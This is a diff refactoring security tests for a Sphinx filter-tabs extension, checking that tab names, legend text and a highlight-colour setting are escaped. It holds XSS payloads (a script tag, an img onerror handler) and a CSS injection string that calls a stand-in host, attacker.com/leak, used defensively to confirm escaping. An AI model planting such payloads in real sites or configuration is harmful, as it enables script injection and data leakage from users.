@@ -1,75 +1,88 @@
 # tests/test_security.py
 
+import html
+import re
+
 import pytest
-from bs4 import BeautifulSoup
+from bs4 import SoupStrainer
 from sphinx.testing.util import SphinxTestApp
 
+LEGEND_ONLY = SoupStrainer(class_="sft-legend")
 
-@pytest.mark.sphinx("html")
-def test_xss_in_tab_name(app: SphinxTestApp):
-    """Verify that malicious tab names are properly escaped to prevent XSS."""
-    xss_payload = '<script>alert("xss")</script>'
-    content = f"""
+
+XSS_TAB_NAME = '<script>alert("xss")</script>'
+XSS_LEGEND = "<img src=x onerror=alert(1)>"
+_ESCAPED_LABEL_RE = re.compile(
+    r"<label\b[^>]*>" + re.escape(html.escape(XSS_TAB_NAME)) + "</label>"
+)
+
+# Both markup payloads are separate documents of one shared build.
+XSS_DOCS = {
+    "xss_tab_name": f"""
 Test XSS
 ========
 
 .. filter-tabs::
 
-    .. tab:: {xss_payload}
+    .. tab:: {XSS_TAB_NAME}
 
         Content
-"""
-    app.srcdir.joinpath("index.rst").write_text(content)
-    app.build()
+""",
+    "xss_legend": f"""
+Test XSS Legend
+===============
+
+.. filter-tabs::
+   :legend: {XSS_LEGEND}
+
+   .. tab:: Python
+      Content
+""",
+}
+
 
-    html_content = (app.outdir / "index.html").read_text()
+@pytest.mark.sphinx("html")
+@pytest.mark.test_params(shared_result="xss")
+def test_xss_in_tab_name(build_documents):
+    """Verify that malicious tab names are properly escaped to prevent XSS."""
+    app = build_documents(XSS_DOCS)
+    xss_payload = XSS_TAB_NAME
+    html_content = (app.outdir / "xss_tab_name.html").read_text()
 
     # Check if the raw payload exists in the HTML
     assert xss_payload not in html_content, "XSS payload found unescaped in HTML!"
 
-    # Check if it's escaped
-    soup = BeautifulSoup(html_content, "html.parser")
-    label = soup.select_one(".sft-radio-group label")
-    assert label.text.strip() == xss_payload, (
+    # Check if it's escaped: the label holds exactly the entity-escaped payload.
+    assert _ESCAPED_LABEL_RE.search(html_content), (
         "Tab name should match payload textually but be escaped in HTML"
     )
 
 
 @pytest.mark.sphinx("html")
-def test_xss_in_legend(app: SphinxTestApp):
+@pytest.mark.test_params(shared_result="xss")
+def test_xss_in_legend(build_documents, parse_html):
     """Verify that malicious legend options are properly escaped to prevent XSS."""
-    xss_payload = "<img src=x onerror=alert(1)>"
-    content = f"""
-Test XSS Legend
-===============
-
-.. filter-tabs::
-   :legend: {xss_payload}
-
-   .. tab:: Python
-      Content
-"""
-    app.srcdir.joinpath("index.rst").write_text(content)
-    app.build()
-
-    html_content = (app.outdir / "index.html").read_text()
+    app = build_documents(XSS_DOCS)
+    xss_payload = XSS_LEGEND
+    html_content = (app.outdir / "xss_legend.html").read_text()
 
     # Check if the raw payload exists in the HTML
     assert xss_payload not in html_content, "XSS payload (legend) found unescaped in HTML!"
 
-    soup = BeautifulSoup(html_content, "html.parser")
-    legend = soup.select_one(".sft-legend")
+    soup = parse_html(app.outdir / "xss_legend.html", LEGEND_ONLY)
+    legend = soup.find(class_="sft-legend")
     assert legend.text.strip() == xss_payload, (
         "Legend text should match payload textually but be escaped in HTML"
     )
 
 
-@pytest.mark.sphinx("html")
-def test_css_injection_in_highlight_color(app: SphinxTestApp):
+# This payload tries to close the :root block and start a new one
+CSS_PAYLOAD = 'red; } body { background: url("http://attacker.com/leak"); }'
+
+
+@pytest.mark.sphinx("html", confoverrides={"filter_tabs_highlight_color": CSS_PAYLOAD})
+def test_css_injection_in_highlight_color(app: SphinxTestApp, write_source):
     """Verify that malicious highlight color configuration doesn't lead to CSS injection."""
-    # This payload tries to close the :root block and start a new one
-    css_payload = 'red; } body { background: url("http://attacker.com/leak"); }'
-    app.config.filter_tabs_highlight_color = css_payload
 
     content = """
 Test CSS Injection
@@ -80,7 +93,7 @@ Test CSS Injection
    .. tab:: Test
       Content
 """
-    app.srcdir.joinpath("index.rst").write_text(content)
+    write_source(content)
     app.build()
 
     theme_css_path = app.outdir / "_static" / "filter_tabs_theme.css"